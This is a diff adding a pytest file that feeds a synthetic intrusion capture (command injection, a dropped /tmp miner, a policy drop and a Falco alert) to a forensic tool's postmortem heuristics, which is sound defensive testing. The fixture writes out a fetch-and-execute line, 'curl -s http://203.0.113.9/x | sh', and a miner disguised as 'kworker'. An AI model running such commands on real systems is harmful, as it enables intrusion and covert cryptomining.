@@ -1,0 +1,108 @@
+"""The postmortem heuristics on an incident unlike the bundled one: command injection into a web
+service, a payload dropped in /tmp, a policy drop and a Falco alert (no interactive shell)."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+import pytest
+
+import kernelsec_nb as kn
+from kernelsec_nb.report import heuristics as H
+
+NODE = "worker-2"
+POD = "shop-api-6f7d8c9b5-qwxyz"
+CID = "9b1f3c7d2e4a" + "0" * 52
+
+
+def _id(pid: int) -> str:
+    return base64.b64encode(f"{NODE}:{pid * 1000}:{pid}".encode()).decode()
+
+
+def _proc(pid: int, parent: int, binary: str, args: str, t: str, *, init: bool = True) -> dict:
+    return {"exec_id": _id(pid), "pid": pid, "uid": 0, "cwd": "/app", "binary": binary, "arguments": args,
+            "flags": "execve clone", "start_time": t, "parent_exec_id": _id(parent), "tid": pid,
+            "in_init_tree": init, "docker": CID[:31],
+            "pod": {"namespace": "shop", "name": POD, "workload": "shop-api",
+                    "container": {"id": "containerd://" + CID, "name": "api"}, "pod_labels": {"app": "api"}},
+            "cap": {"effective": ["CAP_NET_RAW"]}}
+
+
+def _exec(pid: int, parent: dict, binary: str, args: str, t: str) -> str:
+    proc = _proc(pid, parent["pid"], binary, args, t)
+    return json.dumps({"process_exec": {"process": proc, "parent": parent}, "node_name": NODE, "time": t})
+
+
+def _connect(proc: dict, parent: dict, sport: int, daddr: str, dport: int, t: str) -> str:
+    sock = {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": "10.0.2.7",
+            "daddr": daddr, "sport": sport, "dport": dport}
+    return json.dumps({"process_kprobe": {"process": proc, "parent": parent, "function_name": "tcp_connect",
+                                          "args": [{"sock_arg": sock}], "action": "KPROBE_ACTION_POST"},
+                       "node_name": NODE, "time": t})
+
+
+def _flow(sport: int, daddr: str, dport: int, verdict: str, t: str) -> str:
+    flow = {"time": t, "verdict": verdict, "IP": {"source": "10.0.2.7", "destination": daddr, "ipVersion": "IPv4"},
+            "l4": {"TCP": {"source_port": sport, "destination_port": dport, "flags": {"SYN": True}}},
+            "source": {"namespace": "shop", "pod_name": POD, "labels": ["k8s:app=api"]},
+            "destination": {"labels": ["reserved:world"]}, "Type": "L3_L4", "node_name": NODE,
+            "traffic_direction": "EGRESS", "is_reply": False}
+    if verdict == "DROPPED":
+        flow |= {"drop_reason_desc": "POLICY_DENIED"}
+    return json.dumps({"flow": flow, "node_name": NODE, "time": t})
+
+
+@pytest.fixture(scope="module")
+def case(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("rce")
+    server = _proc(10, 1, "/usr/local/bin/python3", "app.py", "2026-03-01T08:00:00Z")  # started before
+    parent_of = {k: server[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
+    sh = _proc(20, 10, "/bin/sh", "-c 'cd /tmp && curl -s http://203.0.113.9/x | sh'", "2026-03-01T10:00:00Z")
+    sh_ref = {k: sh[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
+    miner = _proc(30, 20, "/tmp/.x/kworker", "-o pool.example:3333", "2026-03-01T10:00:02Z")
+    health = _proc(40, 10, "/bin/sh", "-c 'wget -q -O- localhost:8080/health'", "2026-03-01T09:30:00Z")
+    lines = [
+        _connect(server, {"exec_id": _id(1)}, 8080, "10.0.9.9", 5432, "2026-03-01T09:00:00Z"),
+        _exec(40, parent_of, health["binary"], health["arguments"], health["start_time"]),  # routine
+        _exec(20, parent_of, sh["binary"], sh["arguments"], sh["start_time"]),
+        _exec(21, sh_ref, "/usr/bin/curl", "-s http://203.0.113.9/x", "2026-03-01T10:00:00.5Z"),
+        _connect(_proc(21, 20, "/usr/bin/curl", "-s http://203.0.113.9/x", "2026-03-01T10:00:00.5Z"), sh_ref,
+                 39000, "203.0.113.9", 80, "2026-03-01T10:00:00.6Z"),
+        _flow(39000, "203.0.113.9", 80, "FORWARDED", "2026-03-01T10:00:00.601Z"),
+        _exec(30, sh_ref, miner["binary"], miner["arguments"], miner["start_time"]),
+        _connect(miner, sh_ref, 39001, "198.51.100.7", 3333, "2026-03-01T10:00:03Z"),
+        _flow(39001, "198.51.100.7", 3333, "DROPPED", "2026-03-01T10:00:03.001Z"),
+        json.dumps({"hostname": NODE, "output": "Drop and execute new binary", "priority": "Critical",
+                    "rule": "Drop and execute new binary in container", "source": "syscall", "tags": [],
+                    "time": "2026-03-01T10:00:02.1Z",
+                    "output_fields": {"container.id": CID[:12], "proc.pid": 30, "proc.name": "kworker",
+                                      "proc.exepath": "/tmp/.x/kworker", "k8s.pod.name": POD,
+                                      "k8s.ns.name": "shop"}}),
+    ]
+    (tmp / "capture.json").write_text("\n".join(lines) + "\n")
+    c = kn.open_case(tmp / "case.duckdb")
+    report = c.load(tmp / "capture.json", progress=False)
+    assert report.total("quarantined") == 0
+    yield c
+    c.close()
+
+
+def test_the_shell_a_service_started_is_the_session(case):
+    entries = H.session_entries(case)
+    top = entries.row(0, named=True)
+    assert top["exec_id"] == _id(20) and top["basis"].startswith("shell started by a service process")
+    assert (top["alerts"], top["dropped"], top["written"]) == (1, 1, 1)
+    assert _id(40) not in entries["exec_id"].to_list()  # the routine health check did nothing suspicious
+
+
+def test_findings_name_the_pod_the_payload_and_its_flows(case):
+    f = H.derive_findings(case)
+    assert (f["attacker_namespace"], f["attacker_pod"], f["node"]) == ("shop", POD, NODE)
+    assert f["flag_text"] == "/tmp/.x/kworker -o pool.example:3333"
+    assert "most suspicious process" in f["flag"]["reason"]
+    assert f["chain"] == [_id(20), _id(30)]
+    assert [(r["dst_port"], r["verdict"]) for r in f["attack_flows"]] == [(80, "FORWARDED")]
+    assert [(r["dst_port"], r["verdict"]) for r in f["dropped_flows"]] == [(3333, "DROPPED")]
+    assert [a["rule"] for a in f["alerts"]] == ["Drop and execute new binary in container"]
+    assert f["notes"] == []
